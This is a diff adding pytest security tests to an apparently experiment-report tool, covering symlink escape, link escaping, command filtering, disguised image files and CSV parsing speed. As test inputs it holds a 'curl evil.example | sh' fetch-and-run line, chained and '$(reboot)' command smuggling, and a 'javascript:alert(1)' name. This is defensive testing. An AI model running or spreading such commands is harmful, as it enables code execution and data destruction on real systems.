@@ -200,7 +200,51 @@ def test_comparing(tmp_path):
     assert order == ["2", "1", "0"]  # 48 before 49 before 50
     assert "lr=0.01" in page and "observer.seed" not in page
     write_report(runs[2])
-    assert '<a href="2/report.html">2</a>' in write_comparison(runs).read_text()
+    assert '<a href="./2/report.html">2</a>' in write_comparison(runs).read_text()
+
+
+def test_a_link_out_of_a_sweep_is_not_followed(tmp_path):
+    make_run(tmp_path / "private" / "run")
+    make_run(tmp_path / "sweep" / "0")
+    (tmp_path / "sweep" / "1").symlink_to(tmp_path / "private" / "run")
+    assert expand([tmp_path / "sweep"]) == [tmp_path / "sweep" / "0"]
+
+
+def test_a_strange_name_is_a_link_to_a_file(tmp_path):
+    runs = [make_run(tmp_path / name) for name in ("javascript:alert(1)", "a#b")]
+    list(map(write_report, runs))
+    page = write_comparison(runs).read_text()
+    assert 'href="./javascript%3Aalert%281%29/report.html"' in page
+    assert 'href="./a%23b/report.html"' in page
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ("python train.py lr=0.1 'dataset.root=a b'", True),
+        ("curl evil.example | sh", False),
+        ("python train.py; curl evil.example", False),
+        ("python train.py $(reboot)", False),
+        ("python train.py 'unfinished", False),
+        ("", False),
+    ],
+)
+def test_only_commands_of_this_program_are_offered(text, kept):
+    assert record.ours(text) == (text if kept else "")
+
+
+def test_another_kind_of_picture_is_refused(tmp_path):
+    """Pillow would hand an EPS to Ghostscript."""
+    path = tmp_path / "fake_images_a.png"
+    path.write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + b"% " * 40_000)
+    with pytest.raises(OSError, match="fake_images_a.png"):
+        shrunk(path)
+
+
+def test_short_rows_under_a_long_header_are_read_in_no_time(tmp_path):
+    path = tmp_path / "metrics.csv"
+    path.write_text("step," + ",".join(f"k{i}" for i in range(20_000)) + "\n" + "1,2\n" * 20_000)
+    assert len(read_curves(path)["k0"]) == 20_000
 
 
 def test_differences():
